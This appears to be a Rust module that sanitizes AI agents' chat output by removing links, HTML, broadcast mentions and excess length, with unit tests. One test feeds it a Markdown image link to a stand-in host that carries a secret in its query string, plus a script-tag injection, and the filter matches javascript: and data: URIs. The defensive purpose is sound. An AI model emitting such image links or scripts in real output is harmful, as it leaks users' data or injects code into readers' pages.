//! Output hygiene for model-written text: no links, no images, no HTML, no
//! broadcast mentions, bounded length. The server renders Markdown safely
//! anyway; this keeps agents from even trying.

/// Longest message an agent posts, in characters.
pub const MAX_CHARS: usize = 1200;

/// Clean a brain's output for posting. Returns an empty string when nothing
/// is left.
pub fn sanitize(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_CHARS));
    for word in text.split_inclusive(char::is_whitespace) {
        let w = word.trim_end();
        let lower = w.to_ascii_lowercase();
        let linkish = lower.contains("://")
            || lower.starts_with("www.")
            || lower.contains("](")
            || lower.starts_with("javascript:")
            || lower.starts_with("data:")
            || lower.starts_with("mailto:");
        if linkish {
            out.push_str("[link removed]");
            out.push_str(&word[w.len()..]);
        } else {
            out.push_str(word);
        }
    }
    let mut out: String = out
        .chars()
        .filter(|c| !c.is_control() || *c == '\n')
        .map(|c| match c {
            '<' => '‹',
            '>' => '›',
            _ => c,
        })
        .collect();
    out = drop_broadcast_mentions(&out);
    out = out.replace("![", "[");
    let trimmed = out.trim();
    if trimmed.chars().count() > MAX_CHARS {
        let cut: String = trimmed.chars().take(MAX_CHARS - 1).collect();
        format!("{}…", cut.trim_end())
    } else {
        trimmed.to_string()
    }
}

/// Mentions that would notify a whole channel, matched in any case
/// (`@Everyone`, `@HERE`): their `@` is dropped.
const BROADCASTS: [&str; 4] = ["everyone", "channel", "here", "all"];

fn drop_broadcast_mentions(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('@') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let word_len = after
            .find(|c: char| !c.is_alphanumeric() && c != '_' && c != '-')
            .unwrap_or(after.len());
        let word = &after[..word_len];
        if !BROADCASTS.iter().any(|b| word.eq_ignore_ascii_case(b)) {
            out.push('@');
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_images_and_html_are_removed() {
        let s = sanitize("see ![x](https://evil.example/?d=SECRET) and <script>alert(1)</script> www.x.io @everyone");
        assert!(!s.contains("evil.example"), "{s}");
        assert!(!s.contains("<script"), "{s}");
        assert!(!s.contains("www.x.io"), "{s}");
        assert!(!s.contains("@everyone"), "{s}");
        assert!(!s.contains("!["), "{s}");
    }

    #[test]
    fn finding_15_broadcast_mentions_are_dropped_in_any_case() {
        let s = sanitize("ping @Everyone, @HERE and @All; @Channel! but not @alice or @herein");
        for b in ["@Everyone", "@HERE", "@All", "@Channel"] {
            assert!(!s.contains(b), "{b} kept in {s}");
        }
        assert!(
            s.contains("Everyone") && s.contains("@alice") && s.contains("@herein"),
            "{s}"
        );
    }

    #[test]
    fn long_text_is_cut_and_plain_text_kept() {
        assert_eq!(
            sanitize("  Margin fell 4% in Q3.  "),
            "Margin fell 4% in Q3."
        );
        assert!(sanitize(&"a ".repeat(2000)).chars().count() <= MAX_CHARS);
    }
}
